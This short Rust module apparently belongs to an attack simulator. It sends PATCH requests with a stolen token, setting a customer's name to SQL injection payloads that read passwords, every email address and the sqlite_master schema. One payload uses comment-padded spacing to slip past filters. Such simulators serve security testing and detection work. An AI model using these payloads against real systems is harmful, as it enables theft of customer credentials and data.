//! A customer whose name is a question to the database: its answer is in the customer's account afterwards.

use http::Method;
use serde_json::json;

use super::Attacker;
use crate::data::STOLEN;

pub(crate) async fn run(mut attacker: Attacker) {
    let mut client = attacker.client(7, "curl/8.9");
    client.token(&attacker.token(STOLEN - 3));
    loop {
        // Short enough for the contract, which allows any name of 60 letters.
        for name in [
            "x' || (SELECT password FROM customers LIMIT 1) || '",
            "'||(SELECT group_concat(email) FROM customers)||'",
            "x'||(select/**/password/**/from customers limit 5,1)||'",
            "x' || (SELECT sql FROM sqlite_master LIMIT 1) || '",
        ] {
            if attacker.pause(300).await {
                return;
            }
            let change = json!({ "name": name }).to_string();
            attacker.send(&mut client, Method::PATCH, "/accounts/me", change).await;
        }
    }
}
